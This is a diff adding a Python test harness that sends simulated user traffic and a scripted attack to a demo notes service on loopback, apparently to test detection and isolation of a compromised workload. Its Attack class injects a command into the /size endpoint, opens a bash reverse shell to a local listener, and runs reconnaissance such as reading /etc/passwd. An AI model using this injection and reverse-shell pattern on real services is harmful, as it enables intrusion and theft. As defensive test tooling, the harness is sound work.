@@ -1,0 +1,163 @@
+"""Benign traffic and the attack, both real HTTP against the demo service on loopback."""
+
+from __future__ import annotations
+
+import contextlib
+import random
+import socket
+import threading
+import time
+import urllib.parse
+import urllib.request
+from dataclasses import dataclass, field
+from pathlib import Path
+
+
+def seed_notes(data: Path) -> list[str]:
+    """A few notes for the service to serve."""
+    data.mkdir(parents=True, exist_ok=True)
+    names = []
+    for i, text in enumerate(
+        ["buy milk", "call the bank", "quarterly report draft " * 20, "passwords are in vault"]
+    ):
+        p = data / f"note{i}.txt"
+        p.write_text(text + "\n")
+        names.append(p.name)
+    return names
+
+
+def get(url: str, timeout: float = 5.0) -> bytes:
+    with urllib.request.urlopen(url, timeout=timeout) as r:  # noqa: S310  (loopback http)
+        return bytes(r.read())
+
+
+class BenignTraffic:
+    """A user browsing notes: index, list, read, size (which spawns sh + wc), ~15 req/s."""
+
+    def __init__(self, base: str, names: list[str], rate_hz: float = 15.0, seed: int = 1) -> None:
+        self.base = base
+        self.names = names
+        self.period = 1.0 / rate_hz
+        self.rng = random.Random(seed)  # noqa: S311  (traffic mix, not crypto)
+        self.stop = threading.Event()
+        self.requests = 0
+        self.errors = 0
+        self.thread = threading.Thread(target=self._run, name="benign-traffic", daemon=True)
+
+    def start(self) -> BenignTraffic:
+        self.thread.start()
+        return self
+
+    def _run(self) -> None:
+        while not self.stop.is_set():
+            r = self.rng.random()
+            n = self.rng.choice(self.names)
+            path = (
+                "/"
+                if r < 0.15
+                else "/notes"
+                if r < 0.4
+                else f"/note?name={n}"
+                if r < 0.75
+                else f"/size?name={n}"
+            )
+            try:
+                get(self.base + path, timeout=2.0)
+                self.requests += 1
+            except OSError:
+                self.errors += 1
+            self.stop.wait(self.period * (0.5 + self.rng.random()))
+
+    def close(self) -> None:
+        self.stop.set()
+        self.thread.join(timeout=5)
+
+
+@dataclass
+class Attack:
+    """Command injection → a reverse shell to a loopback listener → the attacker reads files."""
+
+    base: str
+    listener: socket.socket = field(init=False)
+    port: int = field(init=False)
+    sent_at: float = 0.0
+    connected_at: float | None = None
+    output: bytes = b""
+    conn: socket.socket | None = None
+
+    def __post_init__(self) -> None:
+        self.listener = socket.socket()
+        self.listener.bind(("127.0.0.1", 0))
+        self.listener.listen(1)
+        self.port = self.listener.getsockname()[1]
+
+    def payload(self) -> str:
+        shell = f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{self.port} 0>&1'"
+        return f"x.txt; {shell}"
+
+    def launch(self) -> None:
+        """Send the exploit (in a thread: the vulnerable request blocks while the shell runs)."""
+        url = self.base + "/size?name=" + urllib.parse.quote(self.payload())
+        self.sent_at = time.time()
+
+        def fire() -> None:
+            with contextlib.suppress(OSError):
+                get(url, timeout=60)
+
+        threading.Thread(target=fire, name="exploit", daemon=True).start()
+
+    def operate(self, timeout_s: float = 10.0) -> bool:
+        """Accept the shell, run the attacker's commands, collect output. False: no shell."""
+        self.listener.settimeout(timeout_s)
+        try:
+            conn, _ = self.listener.accept()
+        except OSError:
+            return False
+        self.connected_at = time.time()
+        self.conn = conn
+        conn.settimeout(0.5)
+        for cmd in (
+            "id",
+            "uname -a",
+            "cat /etc/passwd",
+            "ls -la /etc",
+            "cat note3.txt",
+            "find / -maxdepth 2 -name '*.conf'",
+        ):
+            try:
+                conn.sendall(cmd.encode() + b"\n")
+                self.output += self._recv(0.4)
+            except OSError:
+                break
+        return True
+
+    def _recv(self, seconds: float) -> bytes:
+        assert self.conn is not None
+        end = time.monotonic() + seconds
+        out = b""
+        while time.monotonic() < end:
+            try:
+                chunk = self.conn.recv(65536)
+            except TimeoutError:
+                continue
+            except OSError:
+                break
+            if not chunk:
+                break
+            out += chunk
+        return out
+
+    def shell_responds(self, timeout_s: float = 1.0) -> bool:
+        """Does the shell still answer (it must not once the workload is isolated)?"""
+        if self.conn is None:
+            return False
+        try:
+            self.conn.sendall(b"echo still-here\n")
+        except OSError:
+            return False
+        return b"still-here" in self._recv(timeout_s)
+
+    def close(self) -> None:
+        if self.conn is not None:
+            self.conn.close()
+        self.listener.close()
